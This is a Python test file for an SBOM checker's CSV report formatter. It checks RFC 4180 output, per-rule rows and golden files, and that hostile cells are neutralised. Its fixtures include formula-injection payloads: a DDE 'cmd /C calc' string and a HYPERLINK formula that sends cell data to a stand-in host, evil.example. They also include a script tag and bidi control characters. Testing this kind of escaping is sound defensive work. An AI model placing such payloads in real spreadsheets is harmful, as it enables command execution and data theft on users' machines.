"""The CSV formatter: RFC 4180 records, one row per (finding, rule), safe cells, golden files.

Every output is parsed back by the `csv` module in strict mode, record by record, before
anything else is asserted (CSV has no schema: this is its validation), and must hold no raw
control or bidi character and no cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from sbomcheck.findings import ComponentSummary, Finding, Report, RuleOutcome, RuleStatus, Severity
from sbomcheck.report import OutputFormat, get_formatter
from sbomcheck.report.csv import COLUMNS, FORMULA_STARTS, CsvFormatter, cell, csv_text
from tests.report.fixtures import (
    ALL_REPORTS,
    BSI_ADVISORY,
    ENGINE_FINDING,
    FAIL_REPORT,
    HOSTILE_REPORT,
    HOSTILE_TEXT,
    WARN_REPORT,
)
from tests.report.golden import assert_golden
from tests.safe_output import RAW_UNSAFE, csv_records


def parse_csv(text: str, columns: tuple[str, ...] = COLUMNS) -> list[dict[str, str]]:
    """The records of `text`, checked: CRLF after every record (and nothing else), a header
    of `columns`, every row as wide, no raw control or bidi character, no formula."""
    assert text.endswith("\r\n")
    lines = csv_records(text).split("\n")[:-1]
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    # One physical line per record: no cell spans lines.
    assert len(rows) == len(lines)
    assert tuple(rows[0]) == columns
    for row in rows[1:]:
        assert len(row) == len(columns), row
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    assert RAW_UNSAFE.findall(csv_records(text)) == []
    return [dict(zip(columns, row, strict=True)) for row in rows[1:]]


def rows_of(report: Report) -> list[dict[str, str]]:
    return parse_csv(CsvFormatter().render(report))


@pytest.mark.parametrize("name", sorted(ALL_REPORTS))
def test_golden(name: str) -> None:
    out = CsvFormatter().render(ALL_REPORTS[name])
    parse_csv(out)
    assert_golden(out, f"{name}.csv")


def test_registered_under_csv() -> None:
    assert isinstance(get_formatter(OutputFormat.CSV), CsvFormatter)


def test_one_row_per_finding_and_applicable_rule() -> None:
    rows = rows_of(FAIL_REPORT)
    assert [r["rule"] for r in rows] == ["US-EL-2024", "US-ICTS-2021-002"]
    icts = rows[1]
    assert icts == {
        "sbom": "samples/appliance.cdx.json",
        "component": "kav-sdk",
        "version": "8.0",
        "purl": "pkg:generic/kav-sdk@8.0",
        "confidence": "confirmed",
        "rule": "US-ICTS-2021-002",
        "status": "in-force",
        "severity": "error",
        # The first path from the root, as text.
        "path": "acme-gateway -> av-module -> kav-sdk",
        "milestone": "integration-updates-resale",
        "waived": "no",
        "finding_id": ENGINE_FINDING.id,
        "verdict": "fail",
        "note": "",
    }


def test_a_waived_rule_says_so_and_the_verdict_is_the_reports() -> None:
    rows = rows_of(WARN_REPORT)
    by_rule = {r["rule"]: r for r in rows}
    assert set(by_rule) == {"US-ICTS-2021-002", "DE-BSI-2022"}
    assert (by_rule["US-ICTS-2021-002"]["waived"], by_rule["DE-BSI-2022"]["waived"]) == (
        "yes",
        "no",
    )
    assert {r["verdict"] for r in rows} == {"warn"}


def test_milestones_of_one_rule_fold_into_the_weightiest() -> None:
    upcoming = dataclasses.replace(
        BSI_ADVISORY, milestone="later", status=RuleStatus.UPCOMING, effective="2030-01-01"
    )
    finding = dataclasses.replace(ENGINE_FINDING, rules=(upcoming, BSI_ADVISORY))
    (row,) = rows_of(dataclasses.replace(FAIL_REPORT, findings=(finding,)))
    assert (row["rule"], row["milestone"], row["status"]) == ("DE-BSI-2022", "warning", "in-force")


@pytest.mark.parametrize(
    ("rules", "note"),
    [
        ((), "no policy rule judged it"),
        (
            (dataclasses.replace(BSI_ADVISORY, status=RuleStatus.NOT_APPLICABLE),),
            "no policy rule applies to it for this profile",
        ),
    ],
)
def test_a_finding_no_rule_applies_to_still_has_its_row(
    rules: tuple[RuleOutcome, ...], note: str
) -> None:
    finding = dataclasses.replace(
        ENGINE_FINDING, rules=rules, severity=Severity.WARNING, notes=("seen after the ban",)
    )
    (row,) = rows_of(dataclasses.replace(FAIL_REPORT, findings=(finding,)))
    assert (row["rule"], row["status"], row["severity"]) == ("kaspersky-technology", "", "warning")
    assert row["note"] == f"{note}; seen after the ban"


def test_no_findings_is_the_header_only() -> None:
    out = CsvFormatter().render(ALL_REPORTS["pass"])
    assert out == ",".join(COLUMNS) + "\r\n"


def _with_component(component: ComponentSummary) -> Report:
    finding: Finding = dataclasses.replace(
        ENGINE_FINDING, component=component, paths=(("@SUM(1+1)*cmd|' /C calc'!A0", "x"),)
    )
    return dataclasses.replace(FAIL_REPORT, findings=(finding,))


def test_formula_injection_is_neutralised() -> None:
    report = _with_component(
        dataclasses.replace(
            ENGINE_FINDING.component,
            name='=HYPERLINK("https://evil.example/?"&A1,"click")',
            version="+1",
            purl="-2+3",
            document="@evil.json",
        )
    )
    row = rows_of(report)[0]
    assert row["component"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert (row["version"], row["purl"], row["sbom"]) == ("'+1", "'-2+3", "'@evil.json")
    assert row["path"] == "'@SUM(1+1)*cmd|' /C calc'!A0 -> x"


@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\x1b"])
def test_a_control_character_first_is_shown_escaped(start: str) -> None:
    row = rows_of(
        _with_component(dataclasses.replace(ENGINE_FINDING.component, name=f"{start}=1+1"))
    )[0]
    # Escaped first (`\t=1+1`): the cell starts with a backslash, not a formula.
    assert row["component"].startswith("\\") and row["component"].endswith("=1+1")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (3, "3"),
        ("\u202eevil", "\\u202eevil"),
        ("two\nlines", "two\\nlines"),
    ],
)
def test_cell(value: object, expected: str) -> None:
    assert cell(value) == expected


def test_quotes_and_commas_are_quoted_per_rfc_4180() -> None:
    out = csv_text(("a", "b"), [('say "hi", then go', "x")])
    assert out == 'a,b\r\n"say ""hi"", then go",x\r\n'


def test_hostile_names_stay_in_their_cells() -> None:
    (row,) = rows_of(HOSTILE_REPORT)
    assert row["component"].startswith("<script>") and "\\x1b[31m" in row["component"]
    assert "\\u202e" in row["path"] and "\\n" in row["component"]
    assert HOSTILE_TEXT not in CsvFormatter().render(HOSTILE_REPORT)
